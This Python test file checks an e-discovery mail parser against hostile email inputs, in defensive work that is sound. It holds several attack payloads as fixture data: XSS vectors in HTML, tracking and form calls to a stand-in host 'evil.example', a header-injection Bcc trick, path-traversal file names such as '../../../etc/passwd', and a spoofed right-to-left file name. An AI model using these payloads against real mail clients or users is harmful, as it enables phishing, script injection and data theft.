"""Hostile mail, made by code: each a recorded state, bounded work, and nothing lost.

Numbers in comments are those of the cases in the project's list of hostile inputs.
"""

from __future__ import annotations

import random
import resource
import socket
import struct
from pathlib import Path

import pytest

from ediscovery.extract.contract import Content
from ediscovery.extract.mail import eml, mbox
from ediscovery.extract.walk import Visit
from ediscovery.model.errors import EvidenceError
from ediscovery.model.states import MEANING, base
from tests.extract.mail.reading import context, root, visits

HEAD = b"From: a@example.com\nTo: b@example.com\nSubject: s\n"
MEGABYTES = 600


@pytest.fixture(autouse=True)
def bounded(monkeypatch: pytest.MonkeyPatch) -> object:
    """No case may reach for the network, or take more than its share of memory."""

    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("evidence must not reach the network")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    yield
    assert (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) < MEGABYTES << 10


def settled(found: list[Visit]) -> list[Visit]:
    """Every item has a known state, and its containers' counts are set."""
    for visit in found:
        assert base(visit.item.state) in MEANING
        if visit.item.expected_children is not None:
            assert visit.item.actual_children is not None
    return found


def multipart(parts: list[bytes], boundary: bytes = b"b", kind: bytes = b"mixed") -> bytes:
    head = b'Content-Type: multipart/%s; boundary="%s"\n\n' % (kind, boundary)
    body = b"".join(b"--%s\n%s\n" % (boundary, part) for part in parts)
    return head + body + b"--%s--\n" % boundary


def test_messages_nested_ten_thousand_deep() -> None:  # 20
    data = (HEAD + b"Content-Type: message/rfc822\n\n") * 10_000 + HEAD + b"\nthe deepest words\n"
    found = settled(visits(data))
    assert len(found) == 51
    assert found[0].item.state == "limit:depth"
    assert found[0].content is not None and b"the deepest words" in found[0].content.read()


def test_multiparts_nested_ten_thousand_deep() -> None:  # 20
    opening = b"".join(
        b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (n, n) for n in range(10_000)
    )
    found = settled(visits(HEAD + opening + b"\nthe deepest words\n"))
    assert any(
        visit.content is not None and b"the deepest words" in visit.content.read()
        for visit in found
        if visit.item.state == "limit:depth"
    )


def test_a_hundred_thousand_parts() -> None:  # 21
    data = HEAD + multipart([b"Content-Type: a/b\n\nx"] * 100_000, b"q")
    found = settled(visits(data, limits={"parts": 200}))
    assert len(found) == 201
    item = found[-1].item
    assert item.state == "limit:parts" and "100000 parts" in item.message
    assert item.expected_children == 100_000 and item.actual_children == 200
    assert "gap" in item.flags


def test_boundaries_of_one_byte_and_prefixes_of_each_other() -> None:  # 21
    inner = multipart([b"\ninner words"], b"bb")
    text = root(HEAD + multipart([inner, b"\nouter words"], b"b")).text
    assert "inner words" in text and "outer words" in text
    dashes = HEAD + multipart([b"\none", b"\ntwo"], b"-")
    assert "one" in root(dashes).text and "two" in root(dashes).text


@pytest.mark.parametrize(
    "data",
    [
        HEAD + b"Content-Type: multipart/mixed\n\n--x\n\nthe words\n--x--\n",
        HEAD + b'Content-Type: multipart/mixed; boundary=""\n\nthe words\n',
        HEAD + b"Content-Type: multipart/mixed; boundary=never\n\nthe words\n",
        HEAD.replace(b"\n", b"\r\n") + b"X: y\n\r\nthe\nwords\r\nthe words",
        HEAD + b"X-Last: 1\nthe words without an empty line\nand: more\n",
        HEAD + b"Content-Type: text/plain; charset=\n\nthe words",
        HEAD + b"Content-Type: ;;;=\n\nthe words",
        HEAD + b"Content-Type:\n\nthe words",
        HEAD + b"Content-Transfer-Encoding: base64\n\nthe words are plain.\n",
    ],
)
def test_malformed_mime(data: bytes) -> None:  # 22
    (visit,) = settled(visits(data))
    assert "the words" in visit.text


def test_headers_without_end() -> None:  # 23
    big = root(HEAD + b"X-Big: " + b"x" * 10_000_000 + b"\n\nthe words")
    assert "the words" in big.text and big.item.subject == "s"
    assert (big.item.state, "cut after 262144 bytes" in big.item.message) == ("limit:header", True)
    huge = root(HEAD + b"X-Big: y\n" * 2_000_000 + b"\nthe words")
    assert (huge.item.state, "first 10485760" in huge.item.message) == ("limit:header", True)
    assert "the words" in huge.text and huge.item.subject == "s"
    many = root(HEAD + b"".join(b"X-%d: y\n" % n for n in range(100_000)) + b"\nthe words")
    assert "the words" in many.text and many.item.subject == "s"
    assert many.item.state == "ok"
    assert len(many.item.metadata["header"]) <= 256 * 1024
    folded = root(HEAD + b"X: y\n" + b" z\n" * 1_000_000 + b"\nthe words")
    assert "the words" in folded.text


def test_forty_thousand_addresses() -> None:  # 23
    for form in (
        b"a%d@example.com",
        b'"N, %d" <a@example.com>',
        b"=?utf-8?q?=C3=A9%d?= <a@b.example>",
    ):
        field = b",\n ".join(form % n for n in range(40_000))
        item = root(b"From: a@example.com\nCc: x@example.com\nTo: " + field + b"\n\nx").item
        assert item.state == ("limit:header" if len(field) > 256 * 1024 else "ok")
        assert 10_000 < len(item.to) <= 40_000 or item.state == "limit:header"
        assert item.to and item.cc == ["x@example.com"]
    for field in (
        b"(" * 200_000,
        b"<" * 200_000,
        b'"\\' * 100_000,
        b":;" * 100_000,
        b"@" * 200_000,
    ):
        root(b"From: a@example.com\nCc: x@example.com\nTo: " + field + b"\n\nx")


def test_headers_made_to_deceive() -> None:  # 24
    data = (
        b"From: =?utf-8?Q?Boss=0D=0ABcc:_evil@example.org?= <a@example.com>\n"
        b"To: b@example.com\nSubject: a\x00b =?utf-8?B?ww==?=\n =?utf-8?B?qQ==?= \x1b[31mred\n"
        b"Content-Type: application/x-test; name*0*=utf-8''%C3; name*1*=%A9;"
        b" name*0*=utf-8''second; name=plain.bin\n\nx"
    )
    found = settled(visits(data))
    item = found[-1].item
    assert item.bcc == [] and item.from_ == "Boss Bcc: evil@example.org <a@example.com>"
    assert item.subject.split() == ["a", "b", "é", "[31mred"]
    for text in (item.subject, item.from_, item.file_name, *found[-1].text.split("\n")[:4]):
        assert text.isprintable()
    assert found[0].item.file_name.startswith("é")
    assert "\x1b" in item.metadata["header"]  # the raw header is kept as it is


def test_names_that_turn_around() -> None:  # 25
    name = "invoice\u202efdp.exe"
    part = (
        b"Content-Type: application/x-test\nContent-Disposition: attachment;"
        b" filename*=utf-8''invoice%E2%80%AEfdp.exe\n\nMZ"
    )
    found = settled(visits(HEAD + multipart([part])))
    assert found[0].item.file_name == name and found[0].item.ext == "exe"


def test_paths_as_names_write_nowhere(tmp_path: Path) -> None:  # 5, 26
    for name in (b"../../../etc/passwd", b"C:\\\\x\\\\y.doc", b"/etc/passwd", b"-rf", b"x" * 5000):
        part = b'Content-Type: a/b; name="%s"\n\nx' % name
        found = settled(visits(HEAD + multipart([part])))
        assert found[0].content is not None and found[0].content.read() == b"x"
    assert list(tmp_path.iterdir()) == []


PAGE = """<html><head><base href="http://evil.example/"><meta http-equiv=refresh content="0;url=x">
<style>@import url(http://evil.example/a.css); @font-face{src:url(http://evil.example/f.woff)}</style>
<link rel=prefetch href="http://evil.example/p"></head><body background="//evil.example/b.png"
onload="steal()" hx-get="/admin" x-data="{}">
<script>stolen = "script words"</script><img src="http://evil.example/pixel.gif" onerror="alert(1)">
<svg><script>svg words</script><a xlink:href="javascript:alert(1)">drawn</a></svg>
<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>
<iframe src="file:///etc/passwd"></iframe><object data="\\\\server\\share\\x"></object>
<img src="cid:other-message@example.com"><img src="data:text/html,<script>alert(1)</script>">
<a href="javascript:alert(1)" ping="http://evil.example/ping">the link</a>
<form action="http://evil.example/"><input type=password></form>
<p style="display:none">hidden words</p>the visible words</body></html>"""


def test_html_that_attacks_its_reader() -> None:  # 30, 31, 32, 33
    data = HEAD + b"Content-Type: text/html\n\n" + PAGE.encode()
    (visit,) = settled(visits(data))
    text, item = visit.text, visit.item
    assert "the visible words" in text and "the link" in text and "drawn" in text
    assert "hidden words" in text and "hidden_text" in item.flags
    for never in (
        "script words",
        "svg words",
        "alert(1)",
        "steal()",
        "onerror",
        "@import",
        "root:",
    ):
        assert never not in text
    assert "remote_content" in item.flags
    assert item.metadata["remote_references"] >= 6


def test_images_of_other_messages_are_not_taken_for_ones_own() -> None:  # 32
    page = b'Content-Type: text/html\n\n<img src="cid:elsewhere@example.com">words'
    image = b"Content-Type: image/png; name=a.png\nContent-ID: <own@example.com>\n\n\x89PNG"
    found = settled(visits(HEAD + multipart([page, image])))
    assert found[0].item.relation == "attachment"


def test_a_mailbox_full_of_traps(tmp_path: Path) -> None:  # 38
    line = b"From jane@example.com Fri May  4 11:22:33 2001\n"
    one = HEAD + b"\n\xff\xfe From here\n\nFrom there on nothing\n>From quoted\n"
    path = tmp_path / "traps.mbox"
    path.write_bytes(line + one + b"\n" + line + HEAD + b"\nsecond\n")
    result = mbox.extract(Content(path=path), context("traps.mbox"))
    found = [child.content.read() for child in result.children if child.content]
    assert found == [one, HEAD + b"\nsecond\n"] and result.expected_children == 2


def test_a_message_larger_than_allowed(tmp_path: Path) -> None:  # 38
    line = b"From jane@example.com Fri May  4 11:22:33 2001\n"
    data = line + HEAD + b"\n" + b"x" * 200_000 + b"\n\n" + line + HEAD + b"\nsmall\n"
    found = settled(visits(data, "big.mbox", limits={"item_bytes": 100_000}))
    assert [v.item.state for v in found] == ["limit:item", "ok", "ok"]
    assert found[0].item.sha256 and found[0].item.size > 200_000


def tnef(*lengths: int) -> bytes:
    data = struct.pack("<IH", 0x223E9F78, 0)
    for length in lengths:
        data += struct.pack("<BHHI", 2, 0x9002, 0, length) + b"\0" * 16
    return data


def test_tnef_that_lies_about_lengths() -> None:  # 42
    for data in (tnef(0xFFFFFFFF), tnef(14, 1 << 31), tnef(0) * 50, tnef(*[14] * 2000)):
        part = b"Content-Type: application/ms-tnef; name=winmail.dat\n\n" + data
        found = settled(visits(HEAD + multipart([b"\nthe words", part])))
        assert "the words" in found[-1].text


LIES = [
    ("utf-8", "cp1252", "Größere Beträge für die Prüfung"),
    ("utf-8", "gb18030", "请在星期五之前将签署的合同发送给我们，谢谢您的合作"),
    ("iso-8859-1", "utf-16-le", "plain words in wide letters"),
    ("us-ascii", "utf-8", "Größe"),
    ("big5", "utf-8", "Größere Beträge für die Prüfung"),
    ("x-user-defined", "koi8-r", "Прошу сообщить о получении договора"),
    ("../../etc/passwd", "utf-8", "Größe"),
    ("zlib", "utf-8", "Größe"),
]


@pytest.mark.parametrize(("declared", "real", "words"), LIES)
def test_charsets_that_lie(declared: str, real: str, words: str) -> None:  # 45
    data = HEAD + f"Content-Type: text/plain; charset={declared}\n\n".encode() + words.encode(real)
    (visit,) = settled(visits(data))
    assert words in visit.text
    assert visit.item.metadata.get("charset_declared", declared) == declared


def test_utf7_stays_what_it_is() -> None:  # 45
    data = (
        HEAD
        + b"Content-Type: text/html; charset=utf-7\n\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
    )
    assert "+ADw-script+AD4-" in root(data).text


def test_strange_characters() -> None:  # 46
    body = b"a\x00b \xed\xa0\x80 \xef\xbf\xbe end"
    (visit,) = settled(visits(HEAD + b"Content-Type: text/plain; charset=utf-8\n\n" + body))
    assert "end" in visit.text and "\0" not in visit.text
    visit.text.encode("utf-8")  # no lone surrogate is left
    line = root(HEAD + b"\n" + b"x" * 10_000_000)
    assert line.item.text_chars > 10_000_000
    marks = root(HEAD + b"\n" + b"e" + "\u0301".encode() * 1_000_000)
    assert marks.item.text_chars > 1_000_000


@pytest.mark.parametrize(
    "date",
    [
        "Mon, 01 Jan 0000 00:00:00 +0000",
        "Fri, 31 Dec 9999 23:59:59 +0000",
        "Fri, 31 Dec 10000 23:59:59 +0000",
        "Fri, 30 Feb 2001 00:00:00 +0000",
        "Fri, 04 May 2001 00:00:00 +9999",
        "Fri, 04 May 2001 00:00:00",
        "Mon, 01 Jan 1601 00:00:00 +0000",
        "Fri, -1 May 2001 00:00:00 +0000",
        "-1",
        "x" * 10_000,
    ],
)
def test_impossible_dates(date: str) -> None:  # 47
    item = root(HEAD + f"Date: {date}\n\nx".encode()).item
    assert item.sent_at == "" and "date_invalid" in item.flags
    assert item.metadata["sent_at_raw"] == date


def test_message_ids_prove_nothing() -> None:  # 48
    one = HEAD + b"Message-ID: <same@example.com>\n\nfirst"
    two = HEAD + b"Message-ID: <same@example.com>\n\nsecond"
    none = HEAD + b"\nfirst"
    items = [root(data).item for data in (one, two, none)]
    assert items[0].message_id == items[1].message_id == "<same@example.com>"
    assert items[0].sha256 != items[1].sha256 and items[2].message_id == ""
    for odd in (b"<>", b"no brackets", b"<a@b> (added by x) <c@d>", b"<" + b"x" * 100_000, b"\x00"):
        item = root(HEAD + b"Message-ID: " + odd + b"\nReferences: " + odd * 3 + b"\n\nx").item
        assert item.message_id.isprintable()


def test_references_without_end() -> None:  # 50
    chain = b" ".join(b"<%d@example.com>" % n for n in range(10_000))
    item = root(HEAD + b"References: " + chain + b"\nIn-Reply-To: " + chain + b"\n\nx").item
    assert len(item.references) == 10_000 and item.in_reply_to == "<0@example.com>"


@pytest.mark.parametrize(
    "piece",
    [b" ", b"\t", b";", b"=?", b"=?a?q?", b"?=  =?", b"<", b"a@", b'";', b"--", b"begin 644 "],
)
def test_runs_of_one_thing(piece: bytes) -> None:
    """What costs a careless pattern quadratic time."""
    run = piece * (250_000 // len(piece))
    for name in (b"To", b"Subject", b"Date", b"Content-Type", b"References", b"Received", b"X"):
        root(b"From: a@example.com\nCc: b@example.com\n" + name + b": a" + run + b"z\n\nx")
    root(HEAD + b"\n" + run)
    root(HEAD + b"Content-Type: multipart/mixed\n\n" + run)
    root(HEAD + b"Content-Type: text/html\n\n<" + run + b'<p style="' + run)
    root(HEAD + b"Content-Transfer-Encoding: base64\n\n" + run)


@pytest.mark.parametrize(
    "data", [b"", b"\n", b"\xef\xbb\xbf", b"\0", b"\0" * 100, b"x", b":", b"\r"]
)
def test_next_to_nothing(data: bytes) -> None:  # 39
    settled(visits(data))
    if data:
        eml.extract(Content(data), context())


def samples() -> list[bytes]:
    """Messages with everything in them, to be damaged."""
    image = b"Content-Type: image/png; name=a.png\nContent-ID: <i@x>\n"
    image += b"Content-Transfer-Encoding: base64\n\niVBORw0KGgo=\n"
    page = b"Content-Type: text/html; charset=utf-8\n\n<p style='color:#fff'>a<img src=cid:i@x>"
    body = b"Content-Type: text/plain\nContent-Transfer-Encoding: quoted-printable\n\na=3Db=\nc"
    inner = b"Content-Type: message/rfc822\n\n" + HEAD + b"\ninner"
    coded = b"\nbegin 644 a.txt\n#86)C\n`\nend\nafter"
    whole = multipart([multipart([body, page], b"alt", b"alternative"), image, inner, coded])
    names = b"Subject: =?utf-8?Q?caf=C3=A9?= =?utf-8?B?w6k=?=\n"
    return [
        HEAD + names + whole,
        (HEAD + names + whole).replace(b"\n", b"\r\n"),
        HEAD + multipart([b"Content-Type: application/ms-tnef\n\n" + tnef(14, 20)]),
        HEAD
        + b"Content-Type: application/pkcs7-mime\n\n"
        + bytes.fromhex("308006092a864886f70d010702a080"),
    ]


PIECES = (
    b"\n",
    b"\r\n",
    b"--b",
    b"\n\n",
    b'"',
    b";",
    b"=?utf-8?q?",
    b"boundary=",
    b"\0",
    b"\xff\xff",
)


def test_messages_damaged_at_random() -> None:
    """Three thousand damaged messages: none breaks the reader, none loses count of its parts."""
    rng = random.Random(20010504)
    whole = samples()
    for _ in range(3000):
        data = bytearray(rng.choice(whole))
        for _ in range(rng.randint(1, 8)):
            at = rng.randrange(len(data) + 1)
            kind = rng.randrange(4)
            if kind == 0:
                data[at : at + 1] = bytes((rng.randrange(256),))
            elif kind == 1:
                del data[at : at + rng.randint(1, 40)]
            elif kind == 2:
                data[at:at] = rng.choice(PIECES)
            else:
                data[at:at] = data[rng.randrange(len(data) + 1) :][:60]
        try:
            result = eml.extract(Content(bytes(data)), context())
            count = sum(1 for _ in result.children)
        except EvidenceError as error:
            assert base(error.state) in MEANING
            continue
        assert count == (result.expected_children or 0)
